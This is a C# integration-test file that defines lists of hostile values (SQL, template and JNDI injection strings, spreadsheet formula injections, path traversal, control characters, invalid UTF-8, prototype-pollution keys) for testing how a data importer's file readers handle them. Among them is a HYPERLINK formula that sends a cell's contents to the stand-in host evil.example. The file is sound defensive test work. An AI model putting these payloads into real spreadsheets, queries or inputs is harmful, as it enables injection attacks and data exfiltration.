namespace Tributary.IntegrationTests.Reliability;

/// <summary>The hostile values the file corpus puts in cells, sorted by what the readers must do with them.</summary>
internal static class HostileValues
{
    /// <summary>
    /// Readable text a real export can carry: SQL and template injection, spreadsheet formulas, RTL override,
    /// zero-width and BOM characters, emoji, combining marks, line separators, card numbers. A row holding one is read;
    /// it is enriched or rejected on its identifiers' merits. None starts with a quote, a comma or a line break, so a
    /// quoted cell never ends where it starts (a stray quote earlier in the file could otherwise pair with it and
    /// legitimately swallow the lines between: CSV cannot tell that apart from a multi-line field).
    /// </summary>
    public static readonly string[] Readable =
    [
        "' OR 1=1 --", "x\"; DROP TABLE lookup_ledger; --", "Robert'); DROP TABLE contacts;--", "1; SELECT pg_sleep(10)",
        "{{7*7}}", "${7*7}", "${jndi:ldap://127.0.0.1/a}", "<%= 7*7 %>", "#{7*7}", "{% debug %}", "<script>alert(1)</script>",
        "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://evil.example/?q=\"&A1,\"open\")", "+1+1", "-2+3", "@SUM(1,1)", "=1+1", "\t=1+1",
        "\u202Eevil@example.com", "\u200B\u200B", "jane\uFEFF@acme.com", "😀@😀.com", "👩‍👩‍👧‍👦 family", "Z̤͔ͧ̑̓ä͖̭̈̇lͮ̒ͫǧ̗͚̚o̙̔ͮ̇͐̇",
        "a\u2028b\u2029c", "../../etc/passwd", "%00", "\\u0000", "\\ud800", "4111 1111 1111 1111", "123-45-6789",
        " padded ", "a,b,c", "multi\nline", "ﷺ مرحبا", "\uFFFE\uFFFF", "null", "undefined", "NaN", "0x41",
    ];

    /// <summary>NUL, escape sequences and other control characters: a row holding one raw is binary and rejected.</summary>
    public static readonly string[] Control = ["\0", "a\0b@example.com", "\u0001\u0002", "\u007F", "\u001B[31mred\u001B[0m", "\b\b", "\u000C"];

    /// <summary>Byte sequences that are not UTF-8: a truncated sequence, overlong form, an encoded surrogate, past U+10FFFF.</summary>
    public static readonly byte[][] NotUtf8 =
    [
        [0xFF], [0xFE, 0xFF], [0xC3], [0xC0, 0xAF], [0xED, 0xA0, 0x80], [0xED, 0xBF, 0xBF], [0xF4, 0x90, 0x80, 0x80], [0x80], [0xE2, 0x82],
    ];

    /// <summary>JSON values of the wrong type for a text field, written as JSON text.</summary>
    public static readonly string[] WrongTypes =
    [
        "0", "-1", "1e309", "true", "false", "null", "[]", "{}", "[1,2,3]", "{\"a\":{\"b\":[]}}", "12345678901234567890123", "-0.0", "[\"a@b.co\"]",
    ];

    /// <summary>Hostile key names, as JSON text (quotes included).</summary>
    public static readonly string[] Keys =
    [
        "\"__proto__\"", "\"constructor\"", "\"😀\"", "\"\"", "\"a\\u0000b\"", "\"$where\"", "\"{{7*7}}\"", "\"=1+1\"", "\"x\\ny\"", "\"\\u202Ekey\"",
    ];

    /// <summary>JSON lines that are not an object.</summary>
    public static readonly string[] NotObjects =
    [
        "[1,2]", "\"just a string\"", "42", "null", "true", "[{\"email\":\"a@b.co\"}]", "\"{\\\"email\\\":\\\"a@b.co\\\"}\"",
    ];

    /// <summary>Lines that are no format at all.</summary>
    public static readonly string[] Garbage =
    [
        "lorem ipsum dolor sit amet", "%PDF-1.7", "<?xml version=\"1.0\"?><a/>", "#!/bin/sh", "-- comment", "}{", "=== === ===",
    ];

    /// <summary>Well-formed names, some needing quotes in CSV.</summary>
    public static readonly string[] Names =
    [
        "Jane Doe", "Luna \"L\" Martin", "Doe, Jane", "O'Brien", "Zoë Ångström", "李小龍", "José Nuñez", "Ng", "Anne-Marie d'Arc",
    ];
}
